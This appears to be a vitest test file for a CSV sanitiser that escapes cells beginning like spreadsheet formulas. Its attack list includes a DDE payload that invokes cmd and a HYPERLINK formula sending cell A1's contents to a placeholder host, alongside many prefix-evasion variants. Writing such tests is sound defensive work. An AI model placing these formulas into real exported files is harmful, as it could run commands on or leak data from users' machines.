import { describe, expect, it } from "vitest";
import { harmless } from "#lib/domain/harmless.ts";
import { csvText } from "#lib/format/csv.ts";

const ATTACKS = [
  "=1+1",
  '=HYPERLINK("http://example.org?"&A1,"市政府办")',
  "+86-798-8218888",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\t市政府办",
  "\r市政府办",
  "  =1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "-",
  "--1",
  "+1e",
  "-353.65万元",
  "=-1",
  "-1,2",
  "-1%+1",
];

describe("a cell of CSV", () => {
  it.each(ATTACKS)("that begins like a formula is marked as words: %j", (words) => {
    expect(harmless(words)).toBe(`'${words}`);
  });
  it.each(["-353.65", "-5.2%", "+3", "-1,234.50", "-1,234,567", "-1e-7", "0", "139.8%", "1234.56", ""])(
    "that is a number stays one: %j",
    (number) => {
      expect(harmless(number)).toBe(number);
    },
  );
  it.each(["行政运行", "a=b", "—", "−353.65", "12–15", "市政府办（－）", " 市政府办", "第\t1", "'=1"])(
    "of other words stays as it is: %j",
    (words) => {
      expect(harmless(words)).toBe(words);
    },
  );
  it("is quoted where it must be, in every row, the header too", () => {
    expect(
      csvText([
        ["=部门", "金额"],
        ['=A1,"', "-1.5"],
        ["行政\n=1", "1"],
      ]),
    ).toBe(`'=部门,金额\n"'=A1,""",-1.5\n"行政\n=1",1`);
  });
});
